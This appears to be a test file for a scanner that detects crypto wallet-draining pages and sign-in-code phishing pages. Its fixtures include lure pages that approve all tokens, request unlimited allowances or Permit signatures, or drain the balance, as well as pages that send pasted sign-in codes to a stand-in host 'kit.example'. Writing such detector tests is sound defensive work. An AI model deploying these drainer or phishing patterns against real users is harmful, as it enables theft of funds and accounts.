import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { outcome } = useInspector()
const page = (text: string, script: string): Buffer =>
  Buffer.from(`<html><body><h1>${text}</h1><button id="b">Connect</button><script>${script}</script></body></html>`)
const SEND = `const [a]=await ethereum.request({method:'eth_requestAccounts'});`
const clicked = (code: string): string => `b.onclick=async()=>{${SEND}${code}}`
const transaction = (rest: string): string =>
  clicked(`await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x${'3'.repeat(40)}',${rest}}]})`)

suite('a page that empties a wallet', () => {
  const pages: Record<string, Buffer> = {
    'by an approval for all': page(
      'Claim your airdrop',
      clicked(`await c.setApprovalForAll('0x${'2'.repeat(40)}',true)`),
    ),
    'by the same as data': page('Free mint', transaction(`data:'0xa22cb465'+'${'0'.repeat(127)}1'`)),
    'by a permit': page(
      'Verify your wallet for the refund',
      clicked(
        `await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({primaryType:'Permit'})]})`,
      ),
    ),
    'by the most that can be approved': page(
      'Revoke approvals',
      clicked(`t.methods.approve('0x1','0x${'f'.repeat(64)}').send()`),
    ),
    'by all that it has': page(
      'Free mint',
      `${transaction(`value:'0x'+(BigInt(x)-21000n).toString(16)`)};ethereum.request({method:'eth_getBalance'})`,
    ),
  }
  for (const [name, bytes] of Object.entries(pages))
    test(name, () => assert.equal(outcome(bytes), 'Docvet.Html.Wallet'))
})

suite('a page with a wallet that is harmless:', () => {
  const pages: Record<string, Buffer> = {
    'a donation': page('Support our project', transaction(`value:'0x2386f26fc10000'`)),
    'a sign-in': page(
      'Verify that you own it',
      clicked(`await ethereum.request({method:'personal_sign',params:['Hello',a]})`),
    ),
    'an amount that is approved': page('Swap', clicked(`await t.approve(ROUTER,parseUnits(amount.value,18))`)),
    'a text about it': page(
      'Claim an airdrop? setApprovalForAll(operator, true) gives all away.',
      `document.title='a'`,
    ),
  }
  for (const [name, bytes] of Object.entries(pages)) test(name, () => assert.equal(outcome(bytes), undefined))
})

const SIGN_IN =
  'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?response_type=code&client_id=04b07795&redirect_uri='
const asking = (redirect: string, rest: string): Buffer =>
  Buffer.from(`<html><body><h2>Shared document</h2><a href="${SIGN_IN}${redirect}">Sign in</a>${rest}</body></html>`)
const FIELD = '<input id="u" placeholder="Paste the address here"><button id="b">Finish</button>'
const sending = (server: string): string =>
  `${FIELD}<script>b.onclick=()=>fetch('${server}',{method:'POST',body:u.value})</script>`
const KIT = 'https://kit.example/c'

suite('a page that takes the code of a sign-in', () => {
  const pages: Record<string, Buffer> = {
    'from the computer itself': asking('http://localhost:8400', sending(KIT)),
    'from an address that is coded': asking('http%3A%2F%2F127.0.0.1', sending(KIT)),
    'from an editor on the web': asking('https%3A%2F%2Finsiders.vscode.dev%2Fredirect', sending(KIT)),
    'by a form': asking('http://localhost', `<form action="${KIT}" method="post"><input name="code"></form>`),
    'that is dropped': asking(
      'http://localhost',
      `<script>document.ondrop=e=>fetch('${KIT}?c='+e.dataTransfer.getData('text'),{mode:'no-cors'})</script>`,
    ),
    'by another service that signs in in the same way': Buffer.from(
      asking('http://localhost', sending(KIT)).toString().replace('login.microsoftonline.com', 'login.cloud.example'),
    ),
  }
  for (const [name, bytes] of Object.entries(pages))
    test(name, () => assert.equal(outcome(bytes), 'Docvet.Html.SignInCode'))
})

suite('a page with a sign-in that is harmless:', () => {
  const pages: Record<string, Buffer> = {
    'it returns to its own server': asking('https://app.company.example/cb', sending('https://app.company.example/s')),
    'it sends the code to the service itself': asking(
      'http://localhost',
      sending('https://login.microsoftonline.com/common/oauth2/v2.0/token'),
    ),
    'it asks for nothing': asking('http://localhost', '<p>Run the tool again.</p>'),
    'it sends nothing': asking('http://localhost', FIELD),
  }
  for (const [name, bytes] of Object.entries(pages)) test(name, () => assert.equal(outcome(bytes), undefined))
})
